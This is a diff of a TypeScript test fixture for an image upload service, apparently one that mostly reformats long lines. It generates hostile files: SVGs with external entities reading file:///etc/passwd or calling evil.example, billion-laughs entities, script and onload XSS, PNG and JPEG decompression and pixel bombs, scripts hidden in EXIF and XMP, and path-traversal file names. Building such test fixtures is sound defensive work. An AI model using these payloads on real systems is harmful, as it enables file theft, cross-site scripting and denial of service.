@@ -4,9 +4,18 @@ import sharp from 'sharp'
 /** Hostile files. `MARK` is in each place where a part of them could survive. */
 export const MARK = 'HOSTILE-7f3a'
 
-/** The allowed results of an upload: refused (400 or 413), stored after encoding it again, or either. */
+/**
+ * The allowed results of an upload: refused (400 or 413), stored after encoding it again, or
+ * either.
+ */
 export type Fate = 'refused' | 'encoded' | 'either'
-export type Hostile = { what: string; bytes: Buffer; name: string; fate: Fate; kind: 'image' | 'icon' }
+export type Hostile = {
+  what: string
+  bytes: Buffer
+  name: string
+  fate: Fate
+  kind: 'image' | 'icon'
+}
 
 const text = (body: string): Buffer => Buffer.from(body)
 const SCRIPT = `<script>alert('${MARK}')</script>`
@@ -24,14 +33,28 @@ const chunk = (type: string, data: Buffer): Buffer => {
 }
 
 const PNG_HEAD = Buffer.from('89504e470d0a1a0a', 'hex')
-type Png = { width: number; height: number; depth?: number; colour?: number; interlace?: number; isFlat?: boolean }
+type Png = {
+  width: number
+  height: number
+  depth?: number
+  colour?: number
+  interlace?: number
+  isFlat?: boolean
+}
 
 /** A PNG by its header; flat ones have all their (zero) pixels, others none. */
-function png({ width, height, depth = 8, colour = 2, interlace = 0, isFlat = false }: Png, ...extra: Buffer[]): Buffer {
+function png(
+  { width, height, depth = 8, colour = 2, interlace = 0, isFlat = false }: Png,
+  ...extra: Buffer[]
+): Buffer {
   const channels = [1, 0, 3, 1, 2, 0, 4][colour] ?? 1
   const size = isFlat ? height * (1 + Math.ceil((width * channels * depth) / 8)) : 0
   const pixels = deflateSync(Buffer.alloc(size + (interlace ? height * 8 : 0)), { level: 1 })
-  const header = Buffer.concat([u32(width), u32(height), Buffer.from([depth, colour, 0, 0, interlace])])
+  const header = Buffer.concat([
+    u32(width),
+    u32(height),
+    Buffer.from([depth, colour, 0, 0, interlace]),
+  ])
   return Buffer.concat([
     PNG_HEAD,
     chunk('IHDR', header),
@@ -43,16 +66,36 @@ function png({ width, height, depth = 8, colour = 2, interlace = 0, isFlat = fal
 
 /** A GIF of many frames of one pixel on a canvas of `side` pixels. */
 function gif(side: number, frames: number, extra: Buffer = Buffer.alloc(0)): Buffer {
-  const head = Buffer.from([...text('GIF89a'), ...u16le(side), ...u16le(side), 0x80, 0, 0, 0, 0, 0, 255, 255, 255])
+  const head = Buffer.from([
+    ...text('GIF89a'),
+    ...u16le(side),
+    ...u16le(side),
+    0x80,
+    0,
+    0,
+    0,
+    0,
+    0,
+    255,
+    255,
+    255,
+  ])
   const frame = Buffer.from('2c00000000010001000002024401 00'.replace(' ', ''), 'hex')
   return Buffer.concat([head, extra, ...Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])])
 }
-const gifComment = Buffer.concat([Buffer.from([0x21, 0xfe, SCRIPT.length]), text(SCRIPT), Buffer.from([0])])
+const gifComment = Buffer.concat([
+  Buffer.from([0x21, 0xfe, SCRIPT.length]),
+  text(SCRIPT),
+  Buffer.from([0]),
+])
 
 const after = (bytes: Buffer, at: number, extra: Buffer): Buffer =>
   Buffer.concat([bytes.subarray(0, at), extra, bytes.subarray(at)])
 const jpegSegment = (marker: number, data: Buffer): Buffer =>
-  Buffer.concat([Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]), data])
+  Buffer.concat([
+    Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]),
+    data,
+  ])
 
 /** The frame header of a JPEG contains its size. */
 function jpegOfSize(bytes: Buffer, side: number): Buffer {
@@ -113,14 +156,29 @@ const DRAWINGS: readonly string[] = [
   `<g id="u0">${RECT}</g>${Array.from({ length: 30 }, (_, i) => `<g id="u${i + 1}"><use href="#u${i}"/><use href="#u${i}"/></g>`).join('')}`,
 ]
 
-const LAUGHS = Array.from({ length: 12 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')
+const LAUGHS = Array.from(
+  { length: 12 },
+  (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`,
+).join('')
 
 const DOCUMENTS: readonly (readonly [string, Fate])[] = [
-  [`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg(`<text>&x;</text>${RECT}`)}`, 'refused'],
-  [`<!DOCTYPE svg [<!ENTITY a0 "${MARK}">${LAUGHS}]>${svg(`<text>&a12;</text>${RECT}`)}`, 'refused'],
-  [`<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/${MARK}"> %x;]>${svg(RECT)}`, 'refused'],
+  [
+    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg(`<text>&x;</text>${RECT}`)}`,
+    'refused',
+  ],
+  [
+    `<!DOCTYPE svg [<!ENTITY a0 "${MARK}">${LAUGHS}]>${svg(`<text>&a12;</text>${RECT}`)}`,
+    'refused',
+  ],
+  [
+    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/${MARK}"> %x;]>${svg(RECT)}`,
+    'refused',
+  ],
   [`<!DOCTYPE svg SYSTEM "http://evil.example/${MARK}.dtd">${svg(RECT)}`, 'either'],
-  [`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/${MARK}"?>${svg(RECT)}`, 'encoded'],
+  [
+    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/${MARK}"?>${svg(RECT)}`,
+    'encoded',
+  ],
   [svg(RECT, `onload="alert('${MARK}')" onerror="${MARK}"`), 'encoded'],
   [svg(RECT, `width="1e9" height="1e9"`), 'refused'],
   [`<svg viewBox="0 0 1e300 1">${RECT}</svg>`, 'either'],
@@ -131,7 +189,10 @@ const DOCUMENTS: readonly (readonly [string, Fate])[] = [
   [svg(RECT.repeat(25_000)), 'encoded'],
   [svg(SCRIPT), 'refused'],
   [`${svg(RECT)}${SCRIPT}${svg(SCRIPT)}`, 'refused'],
-  [`<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>${MARK}</script>${RECT}</svg>`, 'refused'],
+  [
+    `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>${MARK}</script>${RECT}</svg>`,
+    'refused',
+  ],
   [`<SVG viewBox="0 0 9 9">${SCRIPT}</SVG>`, 'refused'],
   // Minutes of work for a rasteriser.
   [svg(`<circle cx="50" cy="50" r="45" fill="red" opacity=".1"/>`.repeat(19_990)), 'refused'],
@@ -201,7 +262,10 @@ export async function hostileFiles(): Promise<Hostile[]> {
     gif: await plain.gif().toBuffer(),
   }
   for (const [format, bytes] of Object.entries(good)) addVariationsOf(format, bytes, add)
-  addLies({ ...LIES, webp: await plain.webp().toBuffer(), avif: await plain.avif().toBuffer() }, add)
+  addLies(
+    { ...LIES, webp: await plain.webp().toBuffer(), avif: await plain.avif().toBuffer() },
+    add,
+  )
   addStowaways(good, add)
   await addBombs(good, add)
   addDrawings(add)
@@ -221,8 +285,13 @@ function addVariationsOf(format: string, bytes: Buffer, add: Add): void {
   for (const [tail, rest] of Object.entries(tails))
     add(`${format} with a ${tail} behind it`, Buffer.concat([bytes, rest]), 'encoded')
   for (const part of [0.2, 0.5, 0.9, 0.99])
-    add(`${format} cut off at ${part}`, bytes.subarray(0, Math.floor(bytes.length * part)), 'refused')
-  for (let seed = 0; seed < 32; seed += 1) add(`${format} broken, ${seed}`, broken(bytes, seed), 'either')
+    add(
+      `${format} cut off at ${part}`,
+      bytes.subarray(0, Math.floor(bytes.length * part)),
+      'refused',
+    )
+  for (let seed = 0; seed < 32; seed += 1)
+    add(`${format} broken, ${seed}`, broken(bytes, seed), 'either')
   add(`${format} named as a drawing`, bytes, 'encoded', 'icon.svg', 'icon')
   add(`${format} named as a page`, bytes, 'encoded', `../../${MARK}.html`)
 }
@@ -241,10 +310,22 @@ function addStowaways({ png: p, jpeg: j }: Good, add: Add): void {
   add('PNG with a script in its EXIF', inPng('eXIf', text(SCRIPT)), 'either')
   add('PNG with an unknown part', inPng('evIl', text(SCRIPT)), 'encoded')
   const bomb = deflateSync(Buffer.alloc(60_000_000))
-  add('PNG with a bomb in its text', inPng('zTXt', Buffer.concat([text('Comment\0\0'), bomb])), 'either')
-  add('PNG with a bomb in its colours', inPng('iCCP', Buffer.concat([text('icc\0\0'), bomb])), 'either')
+  add(
+    'PNG with a bomb in its text',
+    inPng('zTXt', Buffer.concat([text('Comment\0\0'), bomb])),
+    'either',
+  )
+  add(
+    'PNG with a bomb in its colours',
+    inPng('iCCP', Buffer.concat([text('icc\0\0'), bomb])),
+    'either',
+  )
   add('JPEG with a script in its comment', after(j, 2, jpegSegment(0xfe, text(SCRIPT))), 'encoded')
-  add('JPEG with a script in its EXIF', after(j, 2, jpegSegment(0xe1, text(`Exif\0\0${SCRIPT}`))), 'either')
+  add(
+    'JPEG with a script in its EXIF',
+    after(j, 2, jpegSegment(0xe1, text(`Exif\0\0${SCRIPT}`))),
+    'either',
+  )
   add(
     'JPEG with a page in its XMP',
     after(j, 2, jpegSegment(0xe1, text(`http://ns.adobe.com/xap/1.0/\0${SCRIPT}`))),
@@ -261,9 +342,21 @@ async function addBombs({ jpeg: j }: Good, add: Add): Promise<void> {
     'refused',
   )
   add('PNG of 40,000,000 flat pixels', png({ width: 8000, height: 5000, isFlat: true }), 'encoded')
-  add('PNG of 40,005,000 flat pixels', png({ width: 8000, height: 5001, colour: 0, isFlat: true }), 'refused')
-  add('PNG of 40,000,000 pixels, interlaced', png({ width: 8000, height: 5000, interlace: 1, isFlat: true }), 'refused')
-  add('PNG of 25,000,000 pixels, interlaced', png({ width: 5000, height: 5000, interlace: 1, isFlat: true }), 'either')
+  add(
+    'PNG of 40,005,000 flat pixels',
+    png({ width: 8000, height: 5001, colour: 0, isFlat: true }),
+    'refused',
+  )
+  add(
+    'PNG of 40,000,000 pixels, interlaced',
+    png({ width: 8000, height: 5000, interlace: 1, isFlat: true }),
+    'refused',
+  )
+  add(
+    'PNG of 25,000,000 pixels, interlaced',
+    png({ width: 5000, height: 5000, interlace: 1, isFlat: true }),
+    'either',
+  )
   add(
     'PNG of 36,000,000 deep pixels',
     png({ width: 6000, height: 6000, depth: 16, colour: 6, isFlat: true }),
@@ -281,7 +374,8 @@ async function addBombs({ jpeg: j }: Good, add: Add): Promise<void> {
     add(`PNG with a header of ${width} × ${height}`, png({ width, height }), 'refused')
   }
   add('PNG of 8000 × 5000 without a pixel', png({ width: 8000, height: 5000 }), 'refused')
-  for (const side of [8001, 65_500]) add(`JPEG with a header of ${side} a side`, jpegOfSize(j, side), 'refused')
+  for (const side of [8001, 65_500])
+    add(`JPEG with a header of ${side} a side`, jpegOfSize(j, side), 'refused')
   add('JPEG with a header of 6000 a side', jpegOfSize(j, 6000), 'refused')
   add('GIF of 10,000 frames', gif(10, 10_000), 'encoded')
   add('GIF of 10,000 frames of 1000²', gif(1000, 10_000), 'refused')
